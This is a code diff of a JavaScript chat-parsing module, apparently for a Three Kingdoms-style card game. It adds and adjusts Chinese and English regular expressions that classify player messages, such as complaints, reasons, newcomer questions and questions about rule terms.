@@ -31402,7 +31496,7 @@ const KINDS9 = [
 	],
 	[
 		"unfair",
-		/没做错|不公平|冤(?!枉)|委屈(?!你|他|她|一下)|又不是我|凭(?:啥|什么).{2}|太过分|憋屈|窝火|\b(?:my fault|didn'?t (?:do anything|deserve)|not fair|unfair|wasn'?t (?:even )?me|so wrong|pisse[sd] me)\b/
+		/没做错|(?:压根|根本|明明|本来|又)不(?:是|归|该)我|不是我一个人|说理|不公平|冤(?!枉)|委屈(?!你|他|她|一下)|又不是我|凭(?:啥|什么).{2}|太过分|憋屈|窝火|\b(?:(?:not|isn'?t|wasn'?t|never) (?:even )?my (?:job|work|mistake|report|code|team|problem)|my fault|didn'?t (?:do anything|deserve)|not fair|unfair|wasn'?t (?:even )?me|so wrong|pisse[sd] me)\b/
 	],
 	[
 		"guesses",
@@ -31420,23 +31514,33 @@ const KINDS9 = [
 		"recalls",
 		/以前|从前|小时候|那时候|(?:[他她]|[爸妈爷奶婆公哥姐]).{0,3}教(?:过|会)?我|教(?:过|会)我|(?:陪|养|带)(?:着|大|过)(?:的)?我|我?(?:还)?记得(?:[他她它]|小|有|那)|生前|在的时候|最爱(?:吃|听|看|喝|跟|在)|聊天记录|照片|(?<!别)舍不得|想(?:他|她|它)(?:了|们)?|梦(?:见|到)|\b(?:used to|taught me|(?:he|she|it|we|they)(?:'d| would| was| were)? always|i remember|remember (?:when|how|him|her)|every (?:day|night) (?:he|she|we)|back when|grew up|raised me|pictures?|photos?|memories)\b/
 	],
-	["thanks", /谢(?!主隆|天|晓|绝)|\b(?:thx|thanks|thank you|ty|tysm|appreciate it|means a lot)\b/]
+	["thanks", /谢(?!主隆|天|晓|绝)|\b(?:thx|thanks|thank you|ty|tysm|appreciate it|means a lot)\b/],
+	[
+		"reason",
+		/关键|其实|说白了|主要是|[就都](?:为|因为)|\b(?:because|cuz|cause|bc|(?:it'?s|was|all|and it was) (?:about|over)|turns out|the thing is)\b/
+	],
+	[
+		"added",
+		/又(?!不)|偏偏|更[气烦]人?的|还(?:得|要|让|被)|刚.{0,6}[来打发@说让问]|\b(?:and now|again|kicker|worst part|on top|as well|now (?:it|he|she|they|im|i))\b/
+	]
 ];
 const NOD = /^(?:嗯+|哦+|噢+|喔+|好+的?|行+|对+|是+的?|哈+|呵+|嘿+|嘻+|草|6+|牛+|赞|顶|来|等等|啊+|[?.!,~]+|ok(?:ay)?|k+|h[am]+|hmm*|lol|lmao|bruh|yes|yeah|yep|no|nah|nope|sure|true|wow|nice|cool|oh|wait|what)[啊呀吧呢哈的了.!?,~ ]*$/;
 const BLAMED = /背.{0,3}锅|锅.{0,6}(?:我|甩)/;
 const TURNS = /[你您]|[谁哪](?!家)|大家|各位|[哈嘿笑]|[卧我][槽靠去草]|居然|抱歉|不好意思|继续|来吧|到我|轮空|好险|太慢|\b(?:you|u|ur|your|guys|(?:^|[a-z]{2}, ?)all$|all of|who|which|lol|lmao|ha+ha\w*|wtf|omg|wow|sorry|back|brb|finally|let'?s|^go|nice|oops|close|did i miss|just happened)\b/;
-const PUT = /^(?:那|所以)?你们?(?:说|觉得|看)(?=.{0,4}我)|\b(?:you|u) (?:guys )?think (?=i\b|i'?m\b|im\b|my\b)/;
+const PUT = /(?:^|[, ])(?:那|所以)?你们?(?:说|觉得|看)(?=.{0,4}我)|\b(?:you|u) (?:guys )?think (?=i\b|i'?m\b|im\b|my\b)/;
 const ASKS5 = /[?吗呢]/;
 const SELF5 = /我|\b(?:i|i'm|im|my|me)\b/;
 const SAYS2 = /[\u3400-\u9fff]{5}|[a-z']+ [a-z']+ [a-z']+/;
 const stays = (text) => !NOD.test(text) && !AWAY.test(text) && !TURNS.test(text.replace(PUT, " ")) && (!ASKS5.test(text) || SELF5.test(text)) && SAYS2.test(text);
+const LOOSELY = new Set(["reason", "added", "more"]);
+const isLoose = (on) => LOOSELY.has(on);
 function goesOnIn(text, topic) {
 	if (NOD.test(text)) return null;
 	if (topic === "work" && BLAMED.test(text)) return "unfair";
 	if (topic === "health" && ORGAN.test(text)) return "finding";
 	const you = /你|您|\b(?:you|u|ur)\b/.test(text.replace(PUT, " "));
 	const kind = KINDS9.find(([on, words]) => words.test(text) && !(on === "ashamed" && you))?.[0];
-	if (kind !== void 0) return kind;
+	if (kind !== void 0 && (!LOOSELY.has(kind) || stays(text))) return kind;
 	if (you) return null;
 	return /[他她它]|[就只]因?为|\b(?:s?he|they)\b/.test(text) || whoseIn(text) !== null ? "more" : null;
 }
@@ -31549,6 +31653,11 @@ function worded2(kind, text, confided) {
 // src/chatter/moves/newcomer.ts
 const ASKED6 = [
 	[
+		"lord",
+		/第一次|头一?[回次]|新手|萌新|刚(?:玩|学|会)|没玩过|\b(?:first (?:time|game)|new (?:here|to|at)|never played|newbie|noob|beginner)\b/,
+		/^(?!.*(?:几个|多少|\d ?号|区别)).*(?:[该要得能](?:先)?(?:打|帮|护|保|干)(?:他|她|主公|啥|嘛|谁)|(?:这|到底)?(?:咋|怎么)(?:个)?(?:打|玩)(?:啊|呀|呢|法|的|$)|主公.{0,4}[该要].{0,6}还是|主公.{0,8}(?:啥|什么)(?:意思|用|人)|(?:谁|哪个)是主公|\b(?:who|which one)(?:'?s| is) (?:the )?lord|\bam i supposed to\b|\bwhat (?:do|am|should) i (?:do|supposed)|\bhow (?:do|does) (?:i|this|it|the game) (?:play|work|go))/
+	],
+	[
 		"shown",
 		/(?:身份|主公).*(?:[?吗呢啊]|卡)|(?:为(?:什么|啥)|咋|怎么).*(?:身份|主公)|\b(?:roles?|lord)\b/,
 		/就我?看得|看不[见到清]|没(?:写|显示)|(?:只有|就).{1,6}[写显]|\bonly (?:i )?see\b|\b(?:can'?t|don'?t) (?:i )?see\b|\bhidden\b/
@@ -31589,9 +31698,37 @@ const ASKED6 = [
 ];
 const newcomerAsks = (text) => ASKED6.find(([, ...all]) => all.every((one) => one.test(text)))?.[0] ?? null;
 
+// src/chatter/moves/term-asked.ts
+const TERM = /翻面|翻过来|横置|[铁连]?[锁链]着|判定|濒死|手牌上限|(?:摸牌|出牌|弃牌)阶段|[火雷]杀|锦囊|[加减]一?[1一]?马|攻击范围|\b(?:turned over|flipped|face ?down|chained|judg\w+|hand limit|draw phase|play phase|discard phase|tricks?|horses?|attack range|nullif\w*)\b/;
+const DOES = "(?:不让|不能|防|挡|怕|跳过|躲|闪|抵|传|摸|出|弃|判|掉血|扣血|回血|救|叠|无视|算|触发|生效|解|影响|连着|烧到|用在|无懈|随便|挑)";
+const EITHER = new RegExp(
+	`(?:是|得|要|该|能|到底|究竟)(?:只)?${DOES}[^,.!?]{0,8}还是[^,.!?]{0,3}${DOES}|是[加减多少][^,.!?]{0,8}还是`
+);
+const MAY = new RegExp(
+	`(?:能不能|可不可以|会不会|算不算|用不用|要不要)(?:被|拿|用)?.{0,6}${DOES}|(?:能|可以|会|算|用得着)(?:被|用|拿|给)?.{0,6}${DOES}.{0,6}(?:吗|么|嘛|不$)|${DOES}(?:得|不)[了掉开住到](?:吗|么)`
+);
+const MEANS = /(?:什么|啥)(?:鬼|规则|机制|原理|讲究|说法)|(?:干|做)(?:嘛|啥|什么)用?的|(?:怎么|咋)(?:个)?(?:算|判|结算|触发|生效|起作用|破|解)(?:的|法)?(?=$|[,?!啊呀呢来])|(?:有|起)(?:什么|啥)(?:用|效果|作用|好处|坏处|影响)|规则(?:是|呢|啥|$)|会(?:怎么?样|咋样)/;
+const MEANS_EN = /\b(?:what (?:does|do) (?!we\b|i\b|you\b|u\b|they\b)(?:an? |the |being |getting )?[a-z ]{2,24}\b(?:do|mean)\b(?! (?:this|that|by))|what happens (?:if|when)|how (?:does|do) (?:an? |the )?[a-z ]{2,24} work|what(?:'?s| is) (?:an? |the (?:point|deal|use) of |being )|how (?:do|can) (?:you|i|we|u) (?:get out of|get rid of|counter|dodge|block|beat|stop|use))\b/;
+const MAY_EN = /(?:^|[,.?!] ?|\b(?:so|and|but|wait|um+|or|then) )(?:can|does|do|will|is|are) (?:you|u|i|we|one|it|they|an? |the )?.{0,24}\b(?:dodge|block|stop|cancel|counter|nullify|nullified|dodged|blocked|negate|spread|stack|work|count|ignore|protect|affect|immune|save)\w*\b.{0,30}(?:\?|$)/;
+const OR_EN = /(?:^|[,.?!] ?|\b(?:so|and|but|wait|um+|then) )(?:does|do|is|are) (?:it|an? |the |that )?.{0,24}\b(?:stop|skip|block|cost|draw|play|discard|heal|hurt|need|take)\w*\b.{0,24} or\b/;
+const IF = /\b(?:if|when) (?:i|you|u|we|someone|somebody|they)\b.{0,40}\b(?:do|does|will|would) (?:we|i|they|he|she|it|u|you|everyone|everybody|all)\b|(?:要是|如果|万一)[^.!?]{2,16}(?:也|都|跟着|一起)(?:会|要|得)?(?:掉|烧|着|疼|受|挨|中|连)/;
+const DIFFERS = /区别|不一样|不同|差别|差在哪|一样(?:的)?(?:吗|么|不|嘛|玩意|东西)|\b(?:differen\w+|differs?|same (?:thing|as))\b/;
+const ELSE2 = /谁|[你您]|几号|哪个人|[1-8一二三四五六七八] ?号|刚才|上(?:回合|一?轮)|这(?:回合|轮)|该不该|先|留着|有没有(?:人|桃|闪)|(?:怎么|咋)能|\bwho(?!'?s it|s it)\b|\bshould\b|\b(?:you|u) (?:think|guys|got|have|gonna|going)\b|\b(?:can|will|would|could) (?:you|u|someone|anyone|somebody|anybody|seat|\d)\b(?!.{0,12}\b(?:dodge|block|peach|nullify|counter|use) (?:an?|on|with|against)\b)/;
+const NULLIFIED_TWICE = /无懈(?:可击)?[^能,.!?]{0,5}无懈(?!桃|杀|酒|南|万|锦|决|乐)|\bnull\w*\b.{0,16}\bnull\w*/;
+const LOST_IN_IT = /(?:没|不)(?:太|大|怎么)?[整弄搞看听]?(?:懂|明白|清楚)|新手|萌新|刚玩|第一次|头一?回|\b(?:(?:don'?t|didn'?t|do not|dont) (?:really )?(?:get|understand)|confus\w+|newbie|noob|new (?:here|to)|first (?:time|game))\b/;
+const termsIn = (text) => new Set(cardsIn(text).map(({ card }) => card)).size + (TERM.test(text) ? 1 : 0);
+function asksOfTerm(text, told = false) {
+	const terms = termsIn(text);
+	if (terms === 0) return false;
+	if (NULLIFIED_TWICE.test(text)) return LOST_IN_IT.test(text) || !told && /[?吗]|\bmean/.test(text);
+	if (IF.test(text)) return /[锁链横火雷烧]|\b(?:chain\w*|fire|thunder|burn\w*)\b/.test(text);
+	if (told || ELSE2.test(text)) return false;
+	if (DIFFERS.test(text)) return terms > 1;
+	return [EITHER, MAY, MEANS, MEANS_EN, MAY_EN, OR_EN].some((shape) => shape.test(text));
+}
+
 // src/chatter/moves/rules-asked.ts
 const HOW2 = /怎么(?!看|办|想)|咋(?!看|办|想)|为(?:什么|啥|何)|bug|什么操作|\b(?:how(?! many)|why|bug)\b/;
-const HEALTH_LOST = /[掉扣少没]了?.{0,4}血|\b(?:lose|lost|down|losing|took|take)\b.{0,14}\b(?:hp|health|dmg|damage)\b|\bhurt\b/;
 const CARD2 = /乐(?![了意趣子])|兵粮|闪电|决斗|火攻|铁索|借刀|五谷|南蛮|万箭|无懈|顺手|过河|桃园|\b(?:lebu|indulgence|contentment|bingliang|supply|shortage|lightning|duel|fire attack|chains?|barb\w*|arrow\w*|nullif\w*|harvest)\b/;
 const ASKED7 = [
 	[
@@ -31610,23 +31747,6 @@ const ASKED7 = [
 	[
 		/[一那][刀杀张下箭]|杀|火攻|\b(?:slash|strike|hit|one|fire attack)\b/,
 		/[两二俩2][点滴格血伤]|[掉扣]了?[两二俩2](?!号)|双倍|\b(?:2|two|double) ?(?:dmg|damage|hp|health)\b|\b(?:lose|lost|took|takes?) (?:2|two)\b(?! cards?)/,
-		HOW2
-	],
-	[
-		HEALTH_LOST,
-		/(?:没|不是)(?:人)?(?:打|砍|冲|朝|杀|碰)(?:着|到)?我|\b(?:\w+n'?t|not|nobody|no one)\b.{0,14}\b(?:on|at|hit|touch\w*|aim\w*)(?: at)? me\b/
-	],
-	[
-		HEALTH_LOST,
-		/也|跟着|\b(?:too|also|as well)\b/,
-		/[砍打杀]的(?!我|好|漂亮)|明明|[烧劈]我|[连拴锁]着|为(?:啥|什么)[砍打杀烧]|\bonly (?:hit|aimed|struck|went)\b|\bone\b/,
-		HOW2
-	],
-	[/火|雷|烧|电|\b(?:fire|thunder|burn\w*)\b/, /也|跟着|\b(?:too|also|as well)\b/, /[掉扣少]了?.{0,3}[点滴格血]/, HOW2],
-	[
-		HEALTH_LOST,
-		/南蛮|万箭|\b(?:barb|savage|arrow|volley)/,
-		/(?:我|[他她]|号).{0,3}没|\bbut\b.{0,16}(?:\bnot|n'?t)\b/,
 		HOW2
 	],
 	[
@@ -31664,10 +31784,10 @@ const ASKED7 = [
 		/(?:反贼?|内奸|忠臣?|主公).{0,3}(?:怎[么样]|咋|如何).{0,4}[赢胜](?!的)|怎[么样].{0,3}(?:能|算)赢|(?:反贼?|内奸|忠臣?|主公).{0,3}(?:干[嘛啥]|做什么)(?:的|来着)|\b(?:what|how)(?:'?s| do| does| is| are) (?:the|an?)? ?(?:rebels?|spy|traitor|renegade|loyalists?|lord)(?: even| actually)? (?:do(?! next| now)|have to do|need to do|win|supposed)\b/
 	]
 ];
-const ELSE2 = /谁|凭(?!.*一回合)|\bwho\b|\b(?:u|you) think\b/;
-const asksOfRules = (text) => newcomerAsks(text) !== null || !ELSE2.test(text) && ASKED7.some((all) => all.every((one) => one.test(text))) || INSTEAD.test(text) && HOW2.test(text) && cardsIn(text).some(({ card }) => GEAR.has(card));
+const ELSE3 = /谁|凭(?!.*一回合)|\bwho\b|\b(?:u|you) think\b/;
+const asksOfRules = (text, told = false) => newcomerAsks(text) !== null || asksOfTerm(text, told) || !ELSE3.test(text) && ASKED7.some((all) => all.every((one) => one.test(text))) || INSTEAD.test(text) && HOW2.test(text) && cardsIn(text).some(({ card }) => GEAR.has(card));
 const INSTEAD = /反而|[不没](?:掉|受伤)|[丢弃].?牌|\b(?:instead|no (?:damage|dmg))\b/;
-const asksPlainly = (text) => /说人话|(?:没|不)(?:太)?懂.{0,4}(?:简单|直白|再说|解释)|(?:简单|直白|通俗)(?:点|些)|\b(?:in (?:plain|simple) (?:words|english|terms)|like i'?m (?:5|five)|dumb (?:it|that) down|eli5)\b/.test(
+const asksPlainly = (text) => /说人话|(?:没|不)(?:太)?懂.{0,4}(?:简单|直白|再说|解释)|(?:简单|直白|通俗)(?:点|些)|[说讲]慢(?:点|些)|慢(?:点|些)[说讲]|\b(?:(?:say|explain|tell me) (?:that|it) (?:slow|simpl)\w*|simpler please|in (?:plain|simple) (?:words|english|terms)|like i'?m (?:5|five)|dumb (?:it|that) down|eli5)\b/.test(
 	text
 );
 
@@ -31825,12 +31945,14 @@ function asksOn(text, { exchanges, scene }) {
 	const core = plainly(text.replace(/[\s.!?~]+$/, ""));
 	return ASKED_ON.test(core) || SHORT_WHY.test(core);
 }
+const BRUSHED = /^(?:少来|得了吧?|拉倒吧?|切|别装死?|no way|bs|bull\w*|as if|yeah right)$/;
 function pressing2(texts, { exchanges, scene }, span) {
-	const last = exchanges.find(({ asked }) => TAKEN_UP.has(asked.act) || asked.act === "claim");
+	const last = exchanges.find(({ asked: { act } }) => TAKEN_UP.has(act) || act === "claim" || act === "ask_self");
 	if (last === void 0 || texts.length === 0 || scene.turn - last.turn > FRESH) return null;
 	const core = texts.map((text) => plainly(text.replace(/[\s.!?~]+$/, "")));
-	if (!core.every((text) => PRESSED2.test(text) || INTERJECTION.test(text)) || !core.some((text) => PRESSED2.test(text)))
+	if (!core.every((text) => PRESSED2.test(text) || BRUSHED.test(text) || INTERJECTION.test(text)) || !core.some((text) => PRESSED2.test(text)))
 		return null;
+	if (last.asked.act === "ask_self") return { ...last.asked, refersTo: last.id, span };
 	const asksWhy = last.asked.act === "ask_sure" || last.asked.act === "ask_evidence";
 	return filled(asksWhy ? "ask_guess" : last.asked.act, last, span);
 }
@@ -31876,6 +31998,12 @@ function referring({ text, span, mentions, moment, asked, told, spokenOf }) {
 		const passedOver = OTHER_ONE.test(core) ? last.asked.of?.find((seat) => seat !== last.answered?.about && seat !== hearer) : void 0;
 		if (passedOver !== void 0)
 			return [filled(last.asked.act === "ask_plan" ? "ask_plan" : "ask_guess", last, span, passedOver)];
+		const same = roleOf2(last) ?? exchanges[1]?.answered?.role;
+		if (same !== void 0 && same !== "zhu") {
+			if (ONE_MORE.test(core)) return [{ act: "ask_count", role: same, refersTo: last.id, span }];
+			if (OTHER_ONE.test(core) && mentions.length === 0)
+				return [{ act: "ask_guess", role: same, refersTo: last.id, span }];
+		}
 		if (ROLE_DOES.test(core) && isTold5(last) && (!named || named.seat === moment.scene.table.lord))
 			return [filled("ask_sure", last, span)];
 	}
@@ -32018,12 +32146,12 @@ const GOOD_LUCK = /(?:手气|运气|牌运|人品).{0,5}(?:爆|好|旺|绝|顺|�
 const YOUR_LUCK = /(?:你|您|他|她).{0,4}(?:手气|运气|牌运|欧皇|欧气).{0,6}(?:好|爆|旺|绝|逆天|太|真|强)|你.{0,2}脸(?:真|太|好|这么)?白|(?:你|您)(?:是)?欧皇|\b(?:how lucky (?:are|r) (?:you|u)|(?:you(?:'re|r| are)?|u|ur) (?:so |too |such a |just |pretty )*lucky|your luck|luckiest|lucky (?:bastard|dog|duck|sob))\b/;
 const DOOMED = /(?:来|挨|中|吃).{1,6}我.{0,5}(?:没了|交代|凉|躺|寄|完|死|走人)|(?:来|挨|中|吃).{1,5}就.{0,2}(?:没|凉|寄|躺|死|完)了?我|(?:要|想)[弄搞整]死我|\b(?:i'?m|im) (?:so |pretty much )?(?:dead|done|toast|gone|screwed)\b.{0,12}\bif\b|\b(?:one more|another) .{0,20}(?:i'?m|im) (?:dead|done|toast|gone)\b|挖.{0,4}坑.{0,3}埋我|我的?(?:墓|坟|棺材)|\b(?:dig(?:ging)? my (?:own )?grave|(?:basic(?:al)?ly|practically) (?:a corpse|dead))\b/;
 const BEGS2 = /[救桃求别饶你]|\b(?:help|save|please|pls|don'?t|spare|peach|you|u)\b/;
-const WISHED3 = /打成这样|大家|各位|希望|但愿|借|分(?:我|点)|求|保佑|给我|祝|来点|要是|如果|\b(?:hope|wish|need|want|give me|good luck|if|lend)\b/;
+const WISHED4 = /打成这样|大家|各位|希望|但愿|借|分(?:我|点)|求|保佑|给我|祝|来点|要是|如果|\b(?:hope|wish|need|want|give me|good luck|if|lend)\b/;
 function luckIn(text) {
 	if (YOUR_LUCK.test(text)) return "luck_yours";
 	if (DOOMED.test(text) && !BEGS2.test(text)) return "luck_doomed";
 	if (BAD_LUCK.test(text)) return "luck_bad";
-	return GOOD_LUCK.test(text) && !WISHED3.test(text) ? "luck_good" : null;
+	return GOOD_LUCK.test(text) && !WISHED4.test(text) ? "luck_good" : null;
 }
 const HELLO = /大家好|各位.{0,3}好|问[个声]好|(?:早上|晚上|下午|中午)好|早安|^(?:嗨|哈[喽啰罗]|hi|hello|hey|yo|heyo|howdy|sup|evening|morning)(?![a-z])|(?:大家|各位|兄弟们|朋友们)(?:早|晚)|\b(?:hello|hi|hey|heyo|evening|morning) (?:all|everyone|everybody|guys|folks|y'?all|there|friends)\b/;
 const MERCY = /手下留情|轻点|下手轻|别(?:欺负|虐|打|集火)|放过|多?(?:关照|担待|指教|包涵)|让着|\b(?:go easy|be (?:gentle|nice|kind)|have mercy|don'?t (?:be mean|bully|target)|easy on me)\b/;
@@ -32106,7 +32234,7 @@ function goneOn(plain, text, { confided }, weakly = false) {
 	const on = goesOnIn(plain, confided.asked.topic) ?? (weakly && before.trouble && stays(plain) ? "more" : null);
 	return on === null ? null : { before, confided, on };
 }
-const isSame2 = (fresh, { before, on }, plain) => fresh.life.whose === void 0 && (fresh.topic === topicOfLife(before) && (before.whose !== void 0 || on !== "more") || before.whose !== void 0 && OF_THEM.test(plain));
+const isSame2 = (fresh, { before, on }, plain) => fresh.life.whose === void 0 && (fresh.topic === topicOfLife(before) && (before.whose !== void 0 || !isLoose(on)) || before.whose !== void 0 && OF_THEM.test(plain));
 const ofChat = ({ matter, topic }, plain, parts) => {
 	const whose = whoseIn(plain);
 	return { life: { matter, trouble: false, ...whose ? { whose } : {} }, act: "topic", topic, parts };
@@ -32143,10 +32271,10 @@ function lifeIn(parts, text, moment) {
 	const luck = spoken ? null : luckIn(plain);
 	if (luck !== null && (luck === "luck_doomed" || !DEED4.test(plain))) return of2(luck, "luck", "topic", all);
 	const chat = spoken ? null : matterIn(plain);
-	const anew = gone?.on === "more" && (whoseIn(plain)?.named.zh ?? gone.before.whose?.named.zh) !== gone.before.whose?.named.zh;
+	const anew = gone !== null && isLoose(gone.on) && (whoseIn(plain)?.named.zh ?? gone.before.whose?.named.zh) !== gone.before.whose?.named.zh;
 	const passing = gone !== null && !anew && (PASSING.has(chat?.matter ?? "") || gone.on === "fears");
 	if (chat && !passing && isChat(chat, plain, parts)) return ofChat(chat, plain, all);
-	if (ofThingsAlone(plain) && (gone === null || gone.on === "more" || gone.on === "span")) return null;
+	if (ofThingsAlone(plain) && (gone === null || isLoose(gone.on) || gone.on === "span")) return null;
 	const kept = gone ?? (spoken || chat ? null : goneOn(plain, text, moment, true));
 	if (!kept) return null;
 	const { before, confided, on } = kept;
@@ -32507,11 +32635,11 @@ const asksWhich = (text) => WHICH2.test(text);
 const NOT_DONE = /[还都怎咋]么?[还都]?不[来去敢肯]?[打砍杀拆动收](?![你我])|\bwhy (?:don'?t|haven'?t|aren'?t|not) (?:you |u )?(?:hit|kill|attack|touch|go for|finish)/;
 const WHO_GOES = /谁(?:来|去|能|肯)(?:[补收打砍杀弄送]|动手|解决|带走)(?!的|过|了)|[留让归]给?谁[来去]?[收打砍杀补]|\bwho(?:(?:'?s| is| can| will)(?: gonna| going to)? (?:finish|kill|hit|tak|strik|end)(?:e|ing)?| (?:finish|kill|hit|tak|strik|end)e?s) /;
 const PAST3 = /[了过](?:[的吗吧呢啊]|$)|刚|[上那][一两几]?[次回轮刀]/;
-const EITHER = /还是(?!.*的$)|.{2,}\bor (?:are |do )?(?:you|u) \w|\b(?:(?:are |do )?(?:you|u)|gonna|help) .{2,}\bor (?!what\b|not\b|something)\w/;
+const EITHER2 = /还是(?!.*的$)|.{2,}\bor (?:are |do )?(?:you|u) \w|\b(?:(?:are |do )?(?:you|u)|gonna|help) .{2,}\bor (?!what\b|not\b|something)\w/;
 const ACTS4 = /[打杀砍收拆捅踹踩救帮拉保护奶盯]|停手|\b(?:help|kick|finish|hit|kill|strik|attack|sav|chill|go|slash|tak|swing|push|wait|hold|burn|duel|play|us[ei]|drop)\w*/;
 function choiceIn(clause) {
 	const { text, at } = clause;
-	if (clause.youNamed && EITHER.test(text) && ACTS4.test(text) && !PAST3.test(text) && !ANY_ROLE.test(text))
+	if (clause.youNamed && EITHER2.test(text) && ACTS4.test(text) && !PAST3.test(text) && !ANY_ROLE.test(text))
 		return clause.move("ask_plan", { about: clause.other });
 	if (asksWhether(text)) return clause.move("ask_plan");
 	const third = at.mentions.find(({ kind, called }) => kind === "seat" && !called);
@@ -33013,8 +33141,8 @@ function telling(clause) {
 }
 const holder = (clause) => clause.other ?? (clause.selfNamed ? clause.from : clause.youNamed ? clause.hearer ?? void 0 : void 0);
 const isOver3 = ({ verb, to }, { at }) => (verb === "kill" || verb === "strike") && typeof to === "number" && at.moment.scene.table.bySeat.get(to)?.alive === false;
-const WISHED4 = /[呗吧]$|^.{0,8}下(?:一)?(?:轮|回合)|\bnext (?:turn|round)\b/;
-const isUndone3 = (deed, { hearer, from, at, text }) => typeof deed.by === "number" && (deed.by === hearer || deed.by !== from && WISHED4.test(text)) && !deed.past && !deed.denied && typeof deed.to === "number" && deed.to !== from && deed.to !== hearer && reportOf(deed, at.moment.scene).verdict === "false";
+const WISHED5 = /[呗吧]$|^.{0,8}下(?:一)?(?:轮|回合)|\bnext (?:turn|round)\b/;
+const isUndone3 = (deed, { hearer, from, at, text }) => typeof deed.by === "number" && (deed.by === hearer || deed.by !== from && WISHED5.test(text)) && !deed.past && !deed.denied && typeof deed.to === "number" && deed.to !== from && deed.to !== hearer && reportOf(deed, at.moment.scene).verdict === "false";
 const isTold7 = ({ by, to, start, end }, { from, asked, text, at, hearer }) => !asked && !(at.offered === true && (by === from || by === hearer)) && // "主公这轮弄8": what is still to be done.
 !(/这(?:一)?(?:轮|回合|圈)|本回合|下(?:一)?(?:刀|手|张)|\bnext (?:turn|round)\b/.test(text.slice(0, start)) && !/[了过]/.test(text.slice(end))) && !SUPPOSED3.test(text) && !FORETOLD2.test(text) && !/别|不要|不许|不准|休想|倒是|给我|[替帮]我|快|赶紧/.test(text.slice(0, start)) && typeof by === "number" && typeof to === "number" && (to === from || by !== from) && by !== to;
 const ofOthers2 = ({ at, youNamed, selfNamed, other }) => !selfNamed && (youNamed || other !== void 0 || /你们?俩|你们/.test(at.text));
@@ -33186,44 +33314,35 @@ function heardOf(line, parts, moment, he) {
 	return { moves: tidy(found), mentions, whole, dark };
 }
 
-// src/chatter/moves/of-record.ts
-const DELAYED2 = new Set(["lebu", "bingliang", "shandian"]);
-const YET_TO_COME2 = /最少|打算|准备|下(?:个|一个?)?(?:回合|轮)|(?<![没])(?:要|想(?!知道|问)|该|能(?!告诉)|(?<!一)会(?!儿)|可以)|如果|手里|(?:还|就|只)剩|还有(?:几|多少)|\b(?:should|can|could|will|would|wanna|wants?|gonna|going to|need|if|next|left|with (?:me|us)|holds?|holding|hiding|sitting on my)\b|\b(?:u|you|ya) got$/;
-const HOW_MANY_ZH = /不止[一两二]|(?:几|多少)(?!号|(?<!了几)轮|回合|成|岁|反|忠|内|位|个意思)/;
-const HOW_MANY_EN = /\bhow (?:many|much|often)\b|\b(?:total|count|in all|altogether|add up|just (?:the )?(?:once|one|twice))\b|\b\w+s (?:thrown|played|used) (?:this game|so far|till now|already)\b/;
-const POINTS = /(?:几|多少)(?:点|滴|格|口)?(?:血|伤)|(?:几|多少)[点滴格]|\b(?:hp|health|damage|dmg|dealt)\b|\bhow much\b(?! (?:longer|time))/;
-const HEADS = /(?:几|多少)(?:个(?=人|$|[,.!?])|人|位)|\bhow many (?:people|ppl|players|others|folks|of (?:us|you|u|them))\b/;
-const EATEN = /[吃用喝出放][掉了过]*(?:几|多少)个(?!人)/;
-const BEFORE2 = /再之?前|在?那之前|\bbefore (?:that|then)\b/;
-const FIRST4 = /头一个|第一[个位]|最[先早]|首先|谁先(?!手)|\bfirst\b/;
-const MOST4 = /最[多狠勤凶高]|谁[^,]{0,8}[多狠]$|\b(?:most|more)\b/;
-const LAID2 = /判定[牌区]|[挂贴顶]着(?![什啥])|\bdelayed\b|\bin front of\b|\b(?:lying|sitting) there\b|头上(?:还|都)?[顶贴挂压有](?!人)|\bjudge?ments? (?:card|zone|area)s?\b/;
-const ANYBODY3 = /[?吗么]|是不是|还[挂贴顶]|\b(?:still|which|whose)\b|谁|几个|有(?:没有)?人|有没有|\b(?:who|any(?:one|body)|how many)\b/;
-const IN_TURN = /^(?:那|这|的)?(?:一?个)?回合(?:里|内|中|时|的时候|开始|初)|^'s turn\b/;
-const BARE3 = /多少(?=$|[,.!?啊呀呢了下]|血)/;
-const CARDS_COUNTED = /(?:几|多少)(?:张|件|样|个)|牌|\bcards?\b/;
-const TIMES = /(?:几|多少)(?:次|下|回)|(?<=了)几轮|\b(?:times|often|hits?)\b/;
-const BLADES = /(?:几|多少)刀/;
-const LAYS = /[乐兵].*[贴挂上放]过|[贴挂]过.{0,3}[乐兵]/;
-const GROUP_CARDS = /\baoes?\b|群(?:伤|攻)|范围(?:牌|伤)/;
-const LIFT = /解|拆|懈|化|揭|摘|挡|顶|\b(?:wriggl|escap|get rid|lift|remov|clear|nullif|null|negat|cancel|block|dismantl)\w*|\bt(?:ook|ake) .{0,20}off\b/;
-const CANCEL = /懈|挡|顶(?:了|的|掉)|抵消|[搅弄整]黄|坏(?:了|掉)?.{0,4}好事|\b(?:nullif|negat|counter|block|cancel|foil|ruin|fizzl)\w*|\b(?:ate|stopped)\b|\bnull(?:ed|s)?\b/;
-const SAVE = /[救捞]|拉(?:回|起)|续(?:了|的|上|命)|喂|\b(?:sav|rescu|reviv)\w*|\bke(?:pt|ep) .{1,24} (?:alive|up|going)|\bpulled .{1,24} (?:up|back|through)/;
-const HEALS = /[回加奶吸](?:了|过|上|满|血|多少|几)|涨血|\b(?:heal|recover|regain|gain|restor)\w*|\bgot (?:some |the |any )?(?:hp|health)\b/;
-const KILLS = /人头|[打杀收干弄][死掉走]?(?:了|过)?(?:几|多少)个|\bkill\w*/;
-const TAKES2 = /动(?=.{0,4}(?:装备|武器|防具|马))|拆|顺|(?:[拿偷抽牵丢]|没)(?:走|掉|了)|摸[走掉]|弃|\b(?:st[eo]le?n?|los[et]|snatch|swip|discard|dismantl|grab|rob)\w*\b|\bt(?:ook|aken?)\b/;
-const GOT = /(?:白[拿得]|摸|得|收)(?:到|了|过)*(?:(?:几|多少)张|的?牌)|\b(?:dr[ae]wn?|received?|collect\w*)\b/;
-const GIVES3 = /[送塞递]|\bslip(?:ped)?\b|给(?!.*的$).{0,8}(?:几|多少)张|\b(?:gave|giv(?:e|en)|hand(?:ed)?|pass(?:ed)?|fed)\b/;
-const HURTS2 = /[吃挨].{0,5}的[刀打揍杀]|[打砍捅剁敲劈锤揍射烧伤电毒削扣捶掉挨丢费损]|传导|[碰动](?:过|了)|[少掉]的?那?[一两二三]?[点滴格]|laid a (?:finger|hand)|\b(?:hit|bled|swung|touch|hurt|d(?:a?m|ama)g|attack|slash|struck|strik|burn|cost|deal|los[et]|shot|zap|smack)\w*\b|\bt(?:ook|aken?)\b|\bw(?:ent|as going) (?:at|for|after)\b/;
+// src/chatter/moves/said-number.ts
